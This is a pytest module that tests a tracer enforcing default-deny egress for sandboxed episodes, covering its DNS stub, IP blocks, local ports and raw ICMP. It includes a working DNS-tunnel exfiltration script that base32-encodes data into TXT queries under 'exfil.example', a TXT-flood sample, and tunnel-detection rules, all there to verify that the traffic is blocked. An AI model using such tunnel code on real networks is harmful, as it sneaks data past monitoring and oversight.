"""Egress mode live (root): default-deny egress for episodes in an [[egress]]
profile, names through the tracer's DNS stub, against "the internet" of a
network namespace (a dnslib DNS server that logs every query it gets, and an
HTTP server that logs every request with the address it was reached at).

One tracer for the module: profile `eg-test` for episodes `eg-*`; other
episodes (`t-*`) are in no profile and so not in egress mode.
"""
from __future__ import annotations

import errno
import json
import os
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from at_testlib import LiveTracer, run_in_episode, wait_for
from nethost import NetHost
from episode_tracer import cgroups
from episode_tracer.dns_stub import node_resolvers
from episode_tracer.paths import POLICY_DIR

pytestmark = pytest.mark.root
PY = sys.executable
HERE = Path(__file__).resolve().parent
HTTP_PORT = 8080

PROFILE = """
[lists]
eg_names = ["allowed.test", "*.wild.test"]

[[egress]]
name        = "eg-test"
episodes    = "eg-*"
description = "test profile: names through the stub, nothing else"
allow_names = ["$eg_names"]
allow_local_ports = [{local_ok}]
"""


class Internet:
    def __init__(self, h: NetHost, tmp: Path):
        self.h = h
        self.zone = tmp / "zone.json"
        self.dns_log = tmp / "dns.jsonl"
        self.http_log = tmp / "http.jsonl"

    def set_zone(self, zone: dict) -> None:
        tmp = self.zone.with_suffix(".tmp")
        tmp.write_text(json.dumps(zone))
        tmp.replace(self.zone)

    def _read(self, p: Path) -> list[dict]:
        try:
            return [json.loads(x) for x in p.read_text().splitlines() if x.strip()]
        except FileNotFoundError:
            return []

    def queries(self, qname: str | None = None) -> list[dict]:
        return [e for e in self._read(self.dns_log) if e.get("event") != "ready"
                and (qname is None or e.get("qname") == qname or qname in (e.get("qname") or ""))]

    def requests(self, local: str) -> list[dict]:
        return [e for e in self._read(self.http_log) if e.get("local") in (local, f"::ffff:{local}")]


@pytest.fixture(scope="module")
def net(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("needs root: loads BPF programs and creates cgroups/netns")
    tmp = tmp_path_factory.mktemp("egress-mode")
    with NetHost(tmp) as h:
        inet = Internet(h, tmp)
        inet.set_zone({
            "allowed.test": [["A", h.addr, 300]],
            "denied.test": [["A", h.addr, 300]],
            "flip.wild.test": [["A", h.addr, 1]],
        })
        h.spawn_ns([PY, str(HERE / "dnshost.py"), "dns", str(inet.zone), str(inet.dns_log)],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        h.spawn_ns([PY, str(HERE / "dnshost.py"), "http", str(HTTP_PORT), str(inet.http_log)],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        assert wait_for(lambda: any(e.get("event") == "ready" for e in inet._read(inet.dns_log)), 20)
        h.wait_listening(HTTP_PORT, timeout=20)
        yield inet


@pytest.fixture(scope="module")
def local_ports():
    """Two listeners of this (outside-episode) process on loopback: one the
    profile allows (allow_local_ports), one it does not."""
    socks = []
    for _ in range(2):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", 0))
        s.listen(64)
        socks.append(s)
    yield socks[0].getsockname()[1], socks[1].getsockname()[1]
    for s in socks:
        s.close()


@pytest.fixture(scope="module")
def tracer(net, local_ports, tmp_path_factory):
    site = tmp_path_factory.mktemp("egress-policy") / "90-egress.toml"
    site.write_text(PROFILE.format(local_ok=local_ports[0]))
    t = LiveTracer(policy=True, policy_dirs=[POLICY_DIR, site], monitor=False,
                   dns_upstreams=[net.h.addr], dns_ttl_grace=0.3).start()
    try:
        yield t
    finally:
        t.stop()


def _new_ep(prefix: str):
    ep = f"{prefix}-{uuid.uuid4().hex[:10]}"
    yield ep
    try:
        cgroups.remove(cgroups.cgroup2_mount() / "agent-tracer" / ep)
    except Exception:
        pass


eg_ep = pytest.fixture(lambda: (yield from _new_ep("eg")), name="eg_ep")
eg_ep2 = pytest.fixture(lambda: (yield from _new_ep("eg")), name="eg_ep2")  # one run per episode id
plain_ep = pytest.fixture(lambda: (yield from _new_ep("t")), name="plain_ep")


def py(code: str, ep: str, timeout: float = 30):
    res = run_in_episode(ep, [PY, "-c", code], timeout=timeout)
    return res


# the episode's process first waits until the tracer has registered its
# episode (until then an episode is held in egress mode with nothing
# allowed: fail closed), by polling a name the profile allows
WAIT_REGISTERED = """
import socket, time, errno, sys
def registered_wait():
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            socket.getaddrinfo('allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)
            return
        except OSError:
            time.sleep(0.05)
registered_wait()
"""

CONNECT = """
def connect(addr, port, timeout=5):
    fam = socket.AF_INET6 if ':' in addr else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((addr, port))
        return 0
    except OSError as e:
        return e.errno or 99
    finally:
        s.close()
"""


def test_allowed_name_resolves_and_connects(tracer, net, eg_ep):
    code = WAIT_REGISTERED + f"""
import urllib.request
addr = socket.getaddrinfo('allowed.test', {HTTP_PORT}, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
body = urllib.request.urlopen('http://allowed.test:{HTTP_PORT}/allowed', timeout=10).read()
sys.exit(0 if body == b'egress-ok\\n' and addr == '{net.h.addr}' else 5)
"""
    res = py(code, eg_ep)
    assert res.exit_code == 0, res
    assert [e for e in net.requests(net.h.addr) if e["path"] == "/allowed"]
    d = tracer.wait(type="dns", episode=eg_ep, qname="allowed.test", verdict="allowed")
    assert d and net.h.addr in d[0]["answers"] and d[0]["ttl"] == 300
    # only the info-level log of a new external destination (egress.toml)
    assert [a["rule"] for a in tracer.find(type="alert", episode=eg_ep)] in ([], ["external-destination"])


def test_other_name_refused_and_never_asked_upstream(tracer, net, eg_ep):
    code = WAIT_REGISTERED + """
try:
    socket.getaddrinfo('denied.test', 80, socket.AF_INET, socket.SOCK_STREAM)
    sys.exit(0)
except socket.gaierror as e:
    sys.exit(7)
"""
    res = py(code, eg_ep)
    assert res.exit_code == 7, res
    a = tracer.expect_alert(eg_ep, "eg-test")
    assert a["event"] == "dns" and a["qname"] == "denied.test" and a["action"] == "deny" and a["enforced"]
    assert net.queries("denied.test") == [], "the stub forwarded a name the profile does not allow"


def test_hard_coded_ip_denied_tcp_udp_v4_v6(tracer, net, eg_ep):
    h = net.h
    code = WAIT_REGISTERED + CONNECT + f"""
r = [connect('{h.addr_b}', {HTTP_PORT}), connect('{h.addr6_b}', {HTTP_PORT}), connect('::ffff:{h.addr_b}', {HTTP_PORT})]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b'x', ('{h.addr_b}', 9999)); r.append(0)
except OSError as e:
    r.append(e.errno)
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    u6.sendto(b'x', ('{h.addr6_b}', 9999)); r.append(0)
except OSError as e:
    r.append(e.errno)
print(r)
sys.exit(0 if r == [{errno.EPERM}] * 5 else 9)
"""
    res = py(code, eg_ep)
    assert res.exit_code == 0, res
    a = tracer.wait(type="alert", episode=eg_ep, rule="eg-test", n=5)
    got = {(x["addr"], x["protocol"]) for x in a}
    assert {(h.addr_b, "tcp"), (h.addr6_b, "tcp"), (h.addr_b, "udp"), (h.addr6_b, "udp")} <= got, a
    assert all(x["reason"] == "not-allowed" and x["enforced"] for x in a)
    assert net.requests(h.addr_b) == [] and net.requests(h.addr6_b) == []


def test_changed_answer_updates_the_allow_map(tracer, net, eg_ep):
    h = net.h
    stub = tracer.rt.pipeline.engine.egress.stub
    code = WAIT_REGISTERED + CONNECT + f"""
def resolve():
    return socket.getaddrinfo('flip.wild.test', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
a1 = resolve()
r1 = connect(a1, {HTTP_PORT})
print('first', a1, r1, flush=True)
# the test flips the zone, then tells us through a file
import os
while not os.path.exists({str(net.zone) + '.flipped'!r}):
    time.sleep(0.05)
deadline = time.monotonic() + 20
a2 = a1
while a2 == a1 and time.monotonic() < deadline:
    time.sleep(0.2)
    a2 = resolve()
r2 = connect(a2, {HTTP_PORT})
# the old answer's TTL (1 s + grace) has run out: the old address is closed again
deadline = time.monotonic() + 20
r3 = 0
while r3 == 0 and time.monotonic() < deadline:
    time.sleep(0.2)
    r3 = connect(a1, {HTTP_PORT})
print(a1, r1, a2, r2, r3)
sys.exit(0 if (a1, r1, a2, r2, r3) == ('{h.addr}', 0, '{h.addr_b}', 0, {errno.EPERM}) else 11)
"""
    flag = Path(str(net.zone) + ".flipped")
    flag.unlink(missing_ok=True)
    import threading

    out: dict = {}
    th = threading.Thread(target=lambda: out.setdefault("res", py(code, eg_ep, timeout=90)))
    th.start()
    try:
        assert tracer.wait(type="dns", episode=eg_ep, qname="flip.wild.test", timeout=30)
        assert wait_for(lambda: net.requests(h.addr), 30)
        net.set_zone({"allowed.test": [["A", h.addr, 300]], "denied.test": [["A", h.addr, 300]],
                      "flip.wild.test": [["A", h.addr_b, 1]]})
        flag.write_text("1")
        th.join(120)
    finally:
        flag.write_text("1")
        th.join(10)
    res = out["res"]
    assert res.exit_code == 0, res
    d = tracer.find(type="dns", episode=eg_ep, qname="flip.wild.test", verdict="allowed")
    assert {h.addr, h.addr_b} <= {a for x in d for a in x["answers"]}
    assert all(x["ttl"] == 1 for x in d)
    assert stub is not None


def test_direct_dns_redirected_or_denied(tracer, net, eg_ep):
    """Port 53 to the node's resolvers (resolv.conf, and here the upstream
    in the namespace) goes to the stub, whatever the client: a plain UDP
    socket (answer source rewritten back), a connected one, TCP; port 53 to
    any other resolver is refused."""
    h = net.h
    resolvers = node_resolvers() + [h.addr]
    code = WAIT_REGISTERED + f"""
from dnslib import DNSRecord, RCODE
out = []
for server in {resolvers!r}:
    q = DNSRecord.question('allowed.test')
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(q.pack(), (server, 53))
    data, src = u.recvfrom(4096)
    r = DNSRecord.parse(data)
    out.append((src == (server, 53), RCODE.get(r.header.rcode), [str(x.rdata) for x in r.rr]))
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
    c.connect((server, 53)); c.send(DNSRecord.question('nope.test').pack())
    r = DNSRecord.parse(c.recv(4096))
    out.append((c.getpeername() != None, RCODE.get(r.header.rcode), []))
    r = DNSRecord.parse(DNSRecord.question('allowed.test').send(server, 53, tcp=True, timeout=5))
    out.append((True, RCODE.get(r.header.rcode), [str(x.rdata) for x in r.rr]))
try:
    x = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    x.sendto(DNSRecord.question('allowed.test').pack(), ('{h.addr_b}', 53)); out.append('sent')
except OSError as e:
    out.append(e.errno)
try:
    socket.create_connection(('{h.addr_b}', 53), timeout=5); out.append('connected')
except OSError as e:
    out.append(e.errno)
print(out)
want = []
for _ in {resolvers!r}:
    want += [(True, 'NOERROR', ['{h.addr}']), (True, 'REFUSED', []), (True, 'NOERROR', ['{h.addr}'])]
sys.exit(0 if out == want + [{errno.EPERM}, {errno.EPERM}] else 13)
"""
    n_before = len(net.queries())
    res = py(code, eg_ep, timeout=60)
    assert res.exit_code == 0, res
    # the namespace's server saw only what the stub forwarded (allowed.test), never nope.test
    assert net.queries("nope.test") == []
    assert all(q["qname"] == "allowed.test" for q in net.queries()[n_before:])
    a = tracer.wait(type="alert", episode=eg_ep, rule="eg-test", reason="dns", n=2)
    assert {x["protocol"] for x in a} == {"udp", "tcp"} and all(x["addr"] == h.addr_b for x in a)


def test_dig_through_the_redirect(tracer, net, eg_ep):
    """dig (checks that the answer comes from the server it asked) to the
    node's configured resolver, over UDP and TCP, in an episode."""
    if not Path("/usr/bin/dig").exists():
        pytest.skip("dig is not installed (scripts/install.sh installs bind9-dnsutils)")
    res = run_in_episode(eg_ep, ["/bin/sh", "-c",
                                 "for i in $(seq 100); do getent hosts allowed.test >/dev/null && break; sleep 0.1; done;"
                                 " a=$(dig +short +time=5 +tries=1 allowed.test) && t=$(dig +tcp +short +time=5 allowed.test)"
                                 " && n=$(dig +time=5 +tries=1 denied.test | grep -c 'status: REFUSED')"
                                 f" && [ \"$a\" = {net.h.addr} ] && [ \"$t\" = {net.h.addr} ] && [ \"$n\" = 1 ]"],
                         timeout=60)
    assert res.exit_code == 0, res


def test_system_resolver_tools_work(tracer, net, eg_ep):
    """curl with the system resolver (glibc, /etc/resolv.conf) in an episode."""
    if not Path("/usr/bin/curl").exists():
        pytest.skip("curl is not installed (scripts/install.sh installs it)")
    res = run_in_episode(eg_ep, ["/bin/sh", "-c",
                                 "for i in $(seq 100); do getent hosts allowed.test >/dev/null && break; sleep 0.1; done;"
                                 f" exec curl -sS --max-time 10 http://allowed.test:{HTTP_PORT}/curl"], timeout=60)
    assert res.exit_code == 0, res
    assert [e for e in net.requests(net.h.addr) if e["path"] == "/curl"]


DNS_TUNNEL = """
import base64, os, socket, sys, time, errno
from dnslib import DNSRecord, QTYPE
target, mode = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
deadline = time.monotonic() + 20
if mode == 'registered':  # egress mode: wait until the stub knows the episode
    while time.monotonic() < deadline:
        try:
            socket.getaddrinfo('allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)
            break
        except OSError:
            time.sleep(0.05)
elif mode == 'probe':  # no profile: wait until a plain query may leave (not registered yet: held)
    while time.monotonic() < deadline:
        try:
            s.sendto(DNSRecord.question('ready.probe.example').pack(), (target, 53))
            break
        except OSError:
            time.sleep(0.05)
sent, errs = 0, []
chunk = os.urandom(60)
for i in range(30):
    label = base64.b32encode(chunk[:35] + bytes([i])).decode().rstrip('=').lower()
    q = DNSRecord.question(label + '.t.exfil.example', 'TXT')
    try:
        s.sendto(q.pack(), (target, 53)); sent += 1
    except OSError as e:
        errs.append(e.errno)
    time.sleep(0.01)
print(sent, set(errs), flush=True)
sys.exit(0 if sent else 1)
"""


def test_dns_tunnel_dropped_and_killed_outside_egress_mode(tracer, net, plain_ep, tmp_path):
    """An episode in no profile: egress mode does not refuse its DNS to an
    outside host, but the packet path reads every DNS datagram: base32 TXT
    queries (labels of 56 characters) are dropped before they leave (the
    enforcing `dns-tunnel-labels` rule), the sender is killed, and the DNS
    sink gets nothing; the benign probe query before them went out."""
    script = tmp_path / "tun.py"
    script.write_text(DNS_TUNNEL)
    res = run_in_episode(plain_ep, [PY, str(script), net.h.addr_b, "probe"], timeout=60)
    for rule in ("dns-foreign-resolver", "dns-tunnel-labels"):
        a = tracer.expect_alert(plain_ep, rule, timeout=20)
        assert a["addr"] == net.h.addr_b and a["port"] == 53
    k = tracer.expect_alert(plain_ep, "dns-tunnel-labels")
    assert k["action"] == "kill" and k["enforced"] is True
    d = tracer.find(type="datagram", episode=plain_ep, dns_label_max=lambda n: (n or 0) >= 40)
    assert d and all(x["dropped"] for x in d)
    assert res.exit_code != 0, res
    assert wait_for(lambda: net.queries("probe.example"), 10), "the benign query did not go out"
    assert net.queries("exfil.example") == [], "a tunnel query reached the DNS sink"


TXT_FLOOD = """
import socket, sys, time, errno
from dnslib import DNSRecord
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent, deadline = 0, time.monotonic() + 20
while sent < 25 and time.monotonic() < deadline:
    try:
        s.sendto(DNSRecord.question(f'k{sent}.notes.example', 'TXT').pack(), (sys.argv[1], 53)); sent += 1
    except OSError as e:
        if e.errno != errno.EPERM:
            raise
        time.sleep(0.05)  # not registered yet (held in egress mode until it is)
sys.exit(0 if sent == 25 else 1)
"""


def test_txt_flood_raises_rule(tracer, net, plain_ep, tmp_path):
    script = tmp_path / "flood.py"
    script.write_text(TXT_FLOOD)
    res = run_in_episode(plain_ep, [PY, str(script), net.h.addr_b], timeout=60)
    assert res.exit_code == 0, res
    a = tracer.expect_alert(plain_ep, "dns-txt-flood", timeout=20)
    assert a["matched"]["dns_type_rate"] >= 20
    assert tracer.find(type="alert", episode=plain_ep, rule="dns-tunnel-labels") == []


def test_dns_tunnel_denied_in_egress_mode(tracer, net, eg_ep, eg_ep2, tmp_path):
    script = tmp_path / "tun.py"
    script.write_text(DNS_TUNNEL)
    n = len(net.queries("exfil.example"))
    # straight to an outside host: refused in the kernel
    res = run_in_episode(eg_ep, [PY, str(script), net.h.addr_b, "registered"], timeout=60)
    assert res.exit_code == 1, res
    # through the node's resolver: the stub refuses the names (not allowed)
    res = run_in_episode(eg_ep2, [PY, str(script), net.h.addr, "registered"], timeout=60)
    assert res.exit_code == 0, res
    assert tracer.wait(type="dns", episode=eg_ep2, verdict="refused", n=30, timeout=20)
    a = tracer.wait(type="alert", episode=eg_ep, rule="eg-test", reason="dns")
    assert a and a[0]["addr"] == net.h.addr_b
    time.sleep(0.5)  # give a leaked datagram time to arrive before saying none did
    assert len(net.queries("exfil.example")) == n, "a tunnel query reached the DNS sink"


def test_tunnel_shaped_name_below_allowed_wildcard_refused(tracer, net, eg_ep):
    code = WAIT_REGISTERED + """
import base64, os
label = base64.b32encode(os.urandom(30)).decode().rstrip('=').lower()
try:
    socket.getaddrinfo(label + '.wild.test', 80, socket.AF_INET, socket.SOCK_STREAM); sys.exit(0)
except socket.gaierror:
    sys.exit(7)
"""
    res = py(code, eg_ep)
    assert res.exit_code == 7, res
    d = tracer.wait(type="dns", episode=eg_ep, verdict="refused", qname=lambda q: (q or "").endswith(".wild.test"))
    assert d and d[0]["reason"] in ("label of 40+ characters", "high-entropy name")
    assert net.queries(".wild.test") == [] or all(q["qname"] == "flip.wild.test" for q in net.queries(".wild.test"))


def test_local_listeners(tracer, local_ports, eg_ep):
    """In egress mode a loopback listener owned by a process outside the
    episode is refused unless allow_local_ports names it; the episode's own
    listeners are not."""
    ok_port, bad_port = local_ports
    code = WAIT_REGISTERED + CONNECT + f"""
own = socket.socket(); own.bind(('127.0.0.1', 0)); own.listen(4)
own6 = socket.socket(socket.AF_INET6); own6.bind(('::1', 0)); own6.listen(4)
r = [connect('127.0.0.1', {ok_port}), connect('127.0.0.1', {bad_port}), connect('::ffff:127.0.0.1', {bad_port}),
     connect('127.0.0.1', own.getsockname()[1]), connect('::1', own6.getsockname()[1])]
print(r)
sys.exit(0 if r == [0, {errno.EPERM}, {errno.EPERM}, 0, 0] else 17)
"""
    res = py(code, eg_ep)
    assert res.exit_code == 0, res
    a = tracer.wait(type="alert", episode=eg_ep, rule="eg-test", reason="local")
    assert a and a[0]["port"] == bad_port and a[0]["addr"] == "127.0.0.1"


def test_outside_episodes_untouched(tracer, net, local_ports, plain_ep):
    """The same destinations from outside every episode, and from an episode
    in no profile: not refused, DNS not redirected."""
    h = net.h
    for addr in (h.addr_b, h.addr6_b):
        s = socket.create_connection((addr, HTTP_PORT), timeout=5)
        s.close()
    from dnslib import DNSRecord

    r = DNSRecord.parse(DNSRecord.question("denied.test").send(h.addr_b, 53, timeout=5))
    assert [str(x.rdata) for x in r.rr] == [h.addr]
    code = CONNECT + f"""
import socket, sys, time, errno
deadline = time.monotonic() + 20
while True:
    r = [connect('{h.addr_b}', {HTTP_PORT}), connect('127.0.0.1', {local_ports[1]})]
    if r == [0, 0] or time.monotonic() > deadline:
        break
    time.sleep(0.05)  # not registered yet: held in egress mode until it is
print(r)
sys.exit(0 if r == [0, 0] else 19)
"""
    res = run_in_episode(plain_ep, [PY, "-c", "import socket\n" + code], timeout=60)
    assert res.exit_code == 0, res
    assert tracer.find(type="alert", episode=plain_ep, rule="eg-test") == []


RAW_PING = """
import socket, struct, sys, time, errno
def csum(b):
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
def ping(addr):
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    r.settimeout(2)
    body = struct.pack('!BBHHH', 8, 0, 0, 0x4154, 1) + b'agent-tracer'
    pkt = body[:2] + struct.pack('!H', csum(body)) + body[4:]
    try:
        r.sendto(pkt, (addr, 0))
    except OSError as e:
        return e.errno
    try:
        while True:
            data, src = r.recvfrom(2048)
            if src[0] == addr and data[20] == 0:
                return 0
    except socket.timeout:
        return 'timeout'
deadline = time.monotonic() + 20
res = ping(sys.argv[1])
while sys.argv[2] == 'retry' and res != 0 and time.monotonic() < deadline:
    time.sleep(0.1)  # not registered yet: held in egress mode until it is
    res = ping(sys.argv[1])
print(res)
sys.exit(0 if res == (errno.EPERM if sys.argv[2] == 'once' else 0) else 23)
"""


def test_raw_and_icmp_sockets_dropped_in_egress_mode(tracer, net, eg_ep, plain_ep, tmp_path):
    """What the sock_addr programs never see (a raw ICMP socket, root in the
    episode) is dropped in the packet path in egress mode; an episode in no
    profile pings the outside host."""
    script = tmp_path / "ping.py"
    script.write_text(WAIT_REGISTERED + RAW_PING)
    res = run_in_episode(eg_ep, [PY, str(script), net.h.addr_b, "once"], timeout=60)
    assert res.exit_code == 0, res
    a = tracer.wait(type="alert", episode=eg_ep, rule="eg-test", reason="protocol")
    assert a and a[0]["call"] == "packet" and a[0]["addr"] == net.h.addr_b and a[0]["enforced"]
    script2 = tmp_path / "ping2.py"
    script2.write_text(RAW_PING)
    res = run_in_episode(plain_ep, [PY, str(script2), net.h.addr_b, "retry"], timeout=60)
    assert res.exit_code == 0, res
